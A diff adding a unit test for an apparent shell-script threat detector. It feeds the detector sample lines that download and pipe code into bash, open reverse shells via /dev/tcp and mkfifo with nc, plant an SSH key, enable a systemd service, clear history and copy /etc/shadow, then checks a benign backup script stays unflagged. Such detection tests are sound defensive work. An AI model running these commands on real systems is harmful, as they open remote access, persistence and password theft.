@@ -81,5 +81,34 @@ TEST_CASE("FindBehaviour reports unwrapped Invoke-Expression and decoded -Encode
   CHECK(it->line == "Write-Host 1");
 }
 
+TEST_CASE("Shell scripts: downloads, pipes into a shell, reverse shells, persistence, evasion, credentials") {
+  const auto found = Find("wget -q http://198.51.100.23/k -O /tmp/k\n"
+                          "curl -s http://a.example/i.sh | bash\n"
+                          "chmod 755 /tmp/k\n"
+                          "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
+                          "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.23 4444 > /tmp/f\n"
+                          "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys\n"
+                          "systemctl enable dbus-helper.service\n"
+                          "unset HISTFILE; history -c\n"
+                          "cat /etc/shadow > /tmp/s\n",
+                          Language::kShell);
+  CHECK(Has(found, "download_cradle", "wget"));
+  CHECK(Has(found, "download_cradle", "curl"));
+  CHECK(Has(found, "execution", "piped into a shell"));
+  CHECK(Has(found, "execution", "chmod +x in a temporary folder"));
+  CHECK(Has(found, "reverse_shell", "/dev/tcp"));
+  CHECK(Has(found, "reverse_shell", "mkfifo + nc"));
+  CHECK(Has(found, "persistence", "SSH authorized_keys"));
+  CHECK(Has(found, "persistence", "systemd unit"));
+  CHECK(Has(found, "defense_evasion", "HISTFILE off"));
+  CHECK(Has(found, "defense_evasion", "history -c"));
+  CHECK(Has(found, "credential_access", "/etc/shadow"));
+  // An ordinary maintenance script: none of these.
+  const auto quiet = Find("#!/bin/sh\nset -e\ntar czf /backup/etc.tgz /etc\nfind /var/tmp -mtime +7 -delete\n"
+                          "crontab -l > /backup/crontab.txt\nlogger 'backup done'\n",
+                          Language::kShell);
+  CHECK(quiet.empty());
+}
+
 }  // namespace
 }  // namespace kensa::script
